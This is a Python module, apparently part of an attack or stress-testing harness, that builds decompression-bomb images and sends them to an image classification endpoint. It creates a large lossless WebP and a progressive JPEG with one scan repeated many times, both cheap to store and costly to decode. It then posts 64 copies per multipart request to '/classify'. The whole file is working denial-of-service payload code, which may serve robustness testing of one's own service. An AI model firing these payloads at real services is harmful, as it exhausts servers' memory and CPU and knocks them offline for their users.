"""Pictures that are small as files and large to decode."""

import io
from functools import cache

from PIL import Image

from attacks.attacker import Attack, Pace, Ports, ask, connected, post

_FORM = b"Content-Type: multipart/form-data; boundary=xx\r\n"
_PART = b'--xx\r\nContent-Disposition: form-data; name="file"; filename="a"\r\n\r\n%b\r\n'


@cache
def _webp() -> bytes:
    file = io.BytesIO()
    Image.new("RGB", (7000, 7000)).save(file, "WEBP", lossless=True, quality=0, method=0)
    return file.getvalue()


@cache
def _jpeg_of_scans() -> bytes:
    """A progressive JPEG whose last scan comes again and again."""
    file = io.BytesIO()
    Image.new("L", (4000, 4000)).save(file, "JPEG", progressive=True)
    data = file.getvalue()
    last, end = data.rindex(b"\xff\xda"), len(data) - 2
    return data[:end] + data[last:end] * (90 - data.count(b"\xff\xda")) + data[end:]


def _send(ports: Ports, pace: Pace, picture: bytes) -> None:
    body = (_PART % picture) * 64 + b"--xx--\r\n"
    with connected(ports.http) as client:
        client.settimeout(3.0)
        ask(client, post("/classify", len(body), _FORM), body, pace)


def webp_bombs(ports: Ports, pace: Pace) -> None:
    _send(ports, pace, _webp())


def jpeg_scans(ports: Ports, pace: Pace) -> None:
    _send(ports, pace, _jpeg_of_scans())


ATTACKS = {
    "WebP bombs": Attack(webp_bombs, _webp),
    "JPEGs of 90 scans": Attack(jpeg_scans, _jpeg_of_scans),
}
